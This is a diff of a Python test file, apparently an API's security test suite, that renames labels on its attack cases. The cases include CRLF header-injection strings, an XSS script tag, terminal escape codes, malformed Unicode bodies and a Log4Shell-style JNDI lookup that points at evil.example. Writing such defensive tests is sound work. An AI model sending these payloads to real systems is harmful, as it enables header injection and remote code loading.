@@ -88,7 +88,7 @@ FOREIGN: dict[str, Attack] = {
     "a form of another site that signs in": Attack(
         "/sign-in", 403, "foreign-origin", "POST", (FORM, ("Origin", "https://evil.example")), "key=rk_x"
     ),
-    "a question whether another site may": Attack(
+    "a preflight request of another site": Attack(
         "/v1/jobs",
         403,
         "foreign-origin",
@@ -129,7 +129,7 @@ BODIES: dict[str, Attack] = {
     "a hundred thousand features": _rank("[" + "0," * 100_000 + "0]"),
     "a NUL byte": _json({**SYNTHETIC, "name": "a\0b"}, "/v1/datasets/synthetic"),
     "half a surrogate pair": _json('{"queries":1,"name":"\\ud800"}', "/v1/datasets/synthetic"),
-    "the other half": _json('{"queries":1,"name":"\\udfff\\ud800"}', "/v1/datasets/synthetic"),
+    "surrogates in the wrong order": _json('{"queries":1,"name":"\\udfff\\ud800"}', "/v1/datasets/synthetic"),
     "bytes that are no UTF-8": _json(b'{"queries":1,"name":"\xff\xfe"}', "/v1/datasets/synthetic"),
     "UTF-16": _json('{"queries":1}'.encode("utf-16"), "/v1/datasets/synthetic"),
     "UTF-7": Attack(
@@ -244,14 +244,14 @@ HEADERS = {
     "X-Request-ID that ends its line": ("X-Request-ID", "a\rSet-Cookie: stolen=1"),
     "X-Request-ID with a line feed": ("X-Request-ID", "a\nSet-Cookie: stolen=1"),
     "X-Request-ID with markup": ("X-Request-ID", "<script>alert(1)</script>"),
-    "X-Request-ID of a terminal": ("X-Request-ID", "\x1b[2Jcleared"),
+    "X-Request-ID with terminal controls": ("X-Request-ID", "\x1b[2Jcleared"),
     "X-Request-ID without end": ("X-Request-ID", "a" * 10_000),
     "Idempotency-Key that ends its line": ("Idempotency-Key", "a\rSet-Cookie: stolen=1"),
-    "Idempotency-Key of a terminal": ("Idempotency-Key", "\x1b]0;title\x07"),
+    "Idempotency-Key with terminal controls": ("Idempotency-Key", "\x1b]0;title\x07"),
     "Idempotency-Key without end": ("Idempotency-Key", "a" * 5_000),
     "If-None-Match without end": ("If-None-Match", ",".join(['"x"'] * 3_000)),
     "a header that ends the head": ("X-Any", "a\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: stolen=1\r\n"),
-    "a user agent of the log": ("User-Agent", "${jndi:ldap://evil.example/a} %s%n\x1b[31m"),
+    "a user agent with placeholders of loggers": ("User-Agent", "${jndi:ldap://evil.example/a} %s%n\x1b[31m"),
 }
 
 
